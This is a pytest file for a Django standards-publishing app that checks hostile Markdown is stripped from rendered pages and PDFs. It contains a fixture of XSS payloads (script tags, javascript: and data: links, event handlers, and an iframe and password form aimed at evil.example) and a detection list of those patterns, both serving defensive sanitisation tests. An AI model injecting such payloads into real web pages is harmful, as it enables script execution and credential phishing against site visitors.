"""Hostile Markdown in a standard's body, its indicators or a good-practice example never
reaches a page or a PDF: no scripts, event handlers, javascript: links or iframes."""

import pytest

from standards import services
from standards.models import GoodPracticeExample
from tests.standards.conftest import at, draft_document, pdf_catalog_bytes, pdf_text, publish

pytestmark = pytest.mark.django_db

HOSTILE = """## A heading

<script>alert('body-script')</script>

[click me](javascript:alert('js-link'))

<a href="JaVaScRiPt:alert('mixed-case')">mixed case</a>

<a href="&#106;avascript:alert('entity')">entity</a>

<img src="x" onerror="alert('onerror')">

<div onclick="alert('onclick')"><p onmouseover="alert('hover')">nested <b>html</b>
<iframe src="https://evil.example/frame"></iframe></p></div>

<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>

<style>body { display: none }</style>

<form action="https://evil.example/"><input name="password"></form>

[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<object data="evil.swf"></object><embed src="evil.swf">

<a href="https://example.org/ok" onclick="alert('link-onclick')" style="color:red">a fine link</a>

| kept | table |
| --- | --- |
| *emphasis* | [link](https://example.org/) |
"""

FORBIDDEN = [
    "<script",
    "javascript:",
    "onerror",
    "onclick",
    "onmouseover",
    "onload",
    "<iframe",
    "<svg",
    "<style>body",
    "<form",
    "<input",
    "data:text/html",
    "<object",
    "<embed",
    'style="color',
    "alert(",
]


@pytest.fixture
def hostile(publisher, publisher2):
    edition = draft_document(
        publisher,
        slug="hostile",
        title="Hostile",
        standards=[("First", HOSTILE), ("Second", "Plain body.")],
    )
    standard = edition.standards.get(number=2)
    standard.indicators = HOSTILE
    services.standards_save(edition=edition, by=publisher, save=standard.save)
    services.example_save(
        example=GoodPracticeExample(
            standard=edition.standards.get(number=1),
            title="<script>alert('example-title')</script>",
            text=HOSTILE,
            organisation_type="school",
            date=at(2025, 1, 1).date(),
        ),
        by=publisher,
    )
    return publish(edition, publisher, publisher2)


def main_of(html: str) -> str:
    return html[html.index("<main") : html.index("</main>")]


def test_hostile_markdown_never_reaches_the_page(client, hostile):
    html = main_of(client.get("/standards/hostile/").content.decode())
    # The example's title is plain text: shown escaped, harmless.
    escaped_title = "&lt;script&gt;alert(&#x27;example-title&#x27;)&lt;/script&gt;"
    assert escaped_title in html
    lowered = html.replace(escaped_title, "").lower()
    for needle in FORBIDDEN:
        assert needle.lower() not in lowered, needle
    # What is allowed survives: headings, tables, emphasis and safe links.
    assert "<table>" in html and "<em>emphasis</em>" in html
    assert 'href="https://example.org/ok"' in html
    assert "a fine link" in html


def test_hostile_markdown_never_reaches_the_pdf(client, hostile):
    content = client.get("/standards/hostile/pdf/").content
    raw = pdf_catalog_bytes(content).lower()
    assert b"javascript" not in raw
    assert b"/js " not in raw and b"/js(" not in raw
    assert b"evil.example" not in raw
    text = pdf_text(content)
    assert "alert(" not in text  # examples are not in the PDF; bodies lose their scripts
    assert "a fine link" in text


def test_the_body_headings_sit_below_the_standard_heading(client, hostile):
    html = main_of(client.get("/standards/hostile/").content.decode())
    # "## A heading" in a standard's body becomes h3 under the standard's h2.
    assert "<h3>A heading</h3>" in html
